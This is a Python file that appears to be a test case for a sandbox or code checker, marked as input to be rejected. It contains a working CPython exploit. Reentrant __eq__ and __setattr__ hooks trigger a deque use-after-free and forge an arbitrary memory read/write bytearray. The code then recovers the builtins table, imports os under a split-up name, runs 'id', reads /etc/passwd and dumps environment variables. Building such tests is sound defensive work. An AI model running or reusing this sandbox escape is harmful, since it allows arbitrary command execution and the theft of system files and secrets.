# expect: reject memory
# line: 20
# why: round 73 (researcher A): a pure __eq__ calls a class of the program whose constructor's store runs the class's __setattr__, never judged
import collections

keep = []
got = []
dq = collections.deque()
state = {"n": 0, "payload": b"", "fake": 0}
N = 25


class Box:
    """a constructor's `self.v = v` runs the class's __setattr__"""

    def __init__(self, v):
        self.v = v

    def __setattr__(self, k, v):
        state["n"] += 1
        if state["n"] == 1:
            dq.clear()
            keep.append(bytearray(state["payload"]))
        elif id(v) == state["fake"]:
            v.grab()


class P:
    """a pure __eq__: builds a Box of the other side"""

    def __eq__(self, other):
        b = Box(self)
        return isinstance(b, Box)

    def __hash__(self):
        return 1

    def grab(self):
        got.append(self)


def w8(v):
    return v.to_bytes(8, "little")


pad = [tuple([i] * N) for i in range(200)]
dq.append(tuple([P(), 0] + [0] * (N - 2)))
pad2 = [tuple([i] * N) for i in range(200)]
fake = id(dq[0]) + 48
state["fake"] = fake
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(P), 0, 0]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
try:
    dq.index(tuple([P(), P()] + [0] * (N - 2)))
except (RuntimeError, ValueError, SystemError) as e:
    print(type(e).__name__, e)
print("hook runs:", state["n"], len(keep), len(got))
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = got[0]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
a = id(w8) + 24  # w8's func_builtins
target = sum([mem[a + i] << (8 * i) for i in range(8)])
cell = [None]
count = sum([mem[target + i] << (8 * i) for i in range(8)])
mem[target:target + 8] = w8(count + 1)
b = id(cell) + 24
slot = sum([mem[b + i] << (8 * i) for i in range(8)])
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120])
print("environ:", dict(osm.environ))
